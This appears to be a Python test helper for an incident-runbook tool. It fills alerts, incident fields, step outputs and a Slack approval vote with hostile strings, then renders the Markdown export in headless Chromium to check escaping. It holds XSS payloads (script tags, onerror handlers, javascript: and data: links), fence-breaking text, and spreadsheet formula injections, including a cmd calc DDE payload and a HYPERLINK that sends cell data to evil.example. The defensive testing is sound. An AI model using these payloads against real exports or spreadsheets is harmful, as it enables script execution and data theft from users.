"""An incident told by an attacker: every field an alert source, a step or a workspace member controls is hostile.

    h = tell_hostile_story(make_runtime, runbooks_dir)
    render_in_chromium(tmp_path, markdown_text)  -> what the page did (title, window flag, hrefs, scripts)

The payloads try the three ways out of a Markdown or CSV export: raw HTML that runs script (it would set
`document.title` to PWNED or `window.__pwned`), `javascript:`/`data:` links and images, a code fence closed
from inside, and spreadsheet formulas at the start of a cell. They sit in alert labels and annotations, the
incident title, step parameters and outputs (templated from the alert), a Slack user's display name and a
denial reason.
"""

from __future__ import annotations

import asyncio
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

from sqlalchemy import insert, update

from runbot.domain import RunStatus, StepKind
from runbot.engine.state import INCIDENTS
from runbot.steps.base import Params, Step, StepContext, StepResult
from runbot.store import tables
from runbot.store.types import utcnow
from tests.conftest import write_runbook
from tests.engine.helpers import drive, start

ALERTS = tables.Alert.__table__

SCRIPT = "<script>window.__pwned = 1; document.title = 'PWNED'</script>"
IMG = "<img src=x onerror=\"window.__pwned=1;document.title='PWNED'\">"
SVG = "<svg onload=\"window.__pwned=1\"></svg>"
LINK = "[click me](javascript:window.__pwned=1)"
AUTOLINK = "<javascript:window.__pwned=1>"
DATA_LINK = "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)"
IMAGE = "![x](javascript:window.__pwned=1)"
FENCE_BREAK = "```\n" + IMG + "\n```\n~~~\n" + SCRIPT + "\n````````"
ENTITY = "&lt;img src=x onerror=window.__pwned=1&gt;"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]  # fmt: skip
HTML_PAYLOADS = [SCRIPT, IMG, SVG, LINK, AUTOLINK, DATA_LINK, IMAGE, ENTITY]
EVERYTHING = " ".join(HTML_PAYLOADS)


class EchoParams(Params):
    text: str


class Echo(Step[EchoParams]):
    """A diagnostic whose output and summary are whatever the alert said (as a real command's output may be)."""

    type = "test.echo"
    kind = StepKind.DIAGNOSTIC
    Params = EchoParams

    async def run(self, params: EchoParams, ctx: StepContext) -> StepResult:
        return StepResult(output={"stdout": params.text + "\n" + FENCE_BREAK, "formula": FORMULAS[0]},
                          summary=params.text)  # fmt: skip


RUNBOOK = """
    name: hostile
    owner: team-api
    match: ['alertname = "Hostile"']
    steps:
      - id: echo
        type: test.echo
        with: {text: "{{ alert.annotations.summary }}"}
      - id: formula
        type: test.echo
        with: {text: "{{ alert.labels.owner }}"}
      - id: act
        type: log
        approval: {on_deny: skip}
        with: {message: "{{ alert.labels.payload }}"}
"""


@dataclass
class Hostile:
    rt: Any
    incident_id: str
    run_id: str


def tell_hostile_story(make_runtime: Any, runbooks_dir: Path, db_url: str | None = None) -> Hostile:
    write_runbook(runbooks_dir, "hostile", RUNBOOK)
    rt = make_runtime(db_url, postmortem_auto=False)
    rt.registry.register(Echo)
    assert rt.catalog.reload() == [], rt.catalog.problems
    now = utcnow()
    inc = "inc-hostile"
    labels = {"alertname": "Hostile", "owner": FORMULAS[0], "payload": EVERYTHING, "service": IMG,
              "team": "=1+1", IMG: SCRIPT, "fence": FENCE_BREAK}  # fmt: skip
    annotations = {"summary": EVERYTHING + " " + FORMULAS[1], "description": FENCE_BREAK}
    alert = {"id": "al-hostile", "fingerprint": "fp-hostile", "starts_at": now - timedelta(minutes=5), "ends_at": None,
             "status": "firing", "alertname": "Hostile", "labels": labels, "annotations": annotations,
             "generator_url": "javascript:window.__pwned=1", "incident_id": inc, "receiver": "runbot",
             "received_at": now - timedelta(minutes=4), "updated_at": now, "matched": True}  # fmt: skip
    with rt.db.tx() as conn:
        conn.execute(insert(INCIDENTS).values(id=inc, group_key="{}:{}", status="open", title=f"{IMG} {LINK} {FORMULAS[2]}",
                                              severity=SCRIPT, labels=labels, opened_at=now - timedelta(minutes=4),
                                              resolved_at=None, updated_at=now))  # fmt: skip
        conn.execute(insert(ALERTS), [alert])
    run_id = start(rt, "hostile", alert={"labels": labels, "annotations": annotations}, alert_id=alert["id"],
                   incident_id=inc)  # fmt: skip
    assert drive(rt, run_id) is RunStatus.WAITING
    (appr,) = rt.engine.pending_approvals(run_id)
    rt.engine.vote(appr["id"], "U0MALLORY", False, user_name=f"{FORMULAS[3]} {IMG}", reason=f"{SCRIPT} {LINK} {FORMULAS[0]}")
    assert drive(rt, run_id) is RunStatus.SUCCEEDED
    with rt.db.tx() as conn:
        conn.execute(update(INCIDENTS).where(INCIDENTS.c.id == inc).values(status="resolved", resolved_at=utcnow()))
    return Hostile(rt, inc, run_id)


# ---- rendering as CommonMark in a real browser ----------------------------------------------------------------


def commonmark_html(markdown: str) -> str:
    """The Markdown as a CommonMark renderer turns it into HTML: raw HTML passes, and (stricter than
    markdown-it's default) every link target is accepted, so only the escaping can keep a link out."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True}).enable("table")
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    return md.render(markdown)


# every image has loaded or failed (so an onerror payload has had its chance); `load` mostly implies it already
SETTLED = """Promise.all([...document.images].map(i => i.complete ? 0 : new Promise(r => {
  i.addEventListener('load', r); i.addEventListener('error', r); })))"""
PROBE = """(() => ({
  title: document.title,
  pwned: window.__pwned === undefined ? null : window.__pwned,
  hrefs: [...document.querySelectorAll('[href]')].map(e => e.getAttribute('href')),
  srcs: [...document.querySelectorAll('[src]')].map(e => e.getAttribute('src')),
  scripts: document.querySelectorAll('script').length,
  handlers: [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
  text: document.body.textContent,
  tags: [...new Set([...document.body.querySelectorAll('*')].map(e => e.tagName.toLowerCase()))],
}))()"""


def browse(tmp_path: Path, html: str, name: str = "page.html") -> dict[str, Any]:
    """Open the HTML in headless Chromium, let any script run, and report what the page holds and did."""
    from tests.support.chromium import Chromium

    page = tmp_path / name
    page.write_text(html, encoding="utf-8")

    async def go() -> dict[str, Any]:
        async with Chromium(tmp_path) as browser:
            await browser.call("Page.enable")
            await browser.call("Page.navigate", url=page.as_uri())
            await browser.wait_for("Page.loadEventFired")
            await browser.evaluate(SETTLED)
            return dict(await browser.evaluate(PROBE))

    return asyncio.run(go())


def render_markdown_in_chromium(tmp_path: Path, markdown: str, name: str = "md.html") -> dict[str, Any]:
    doc = f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>clean</title></head><body>{commonmark_html(markdown)}</body></html>"
    return browse(tmp_path, doc, name)
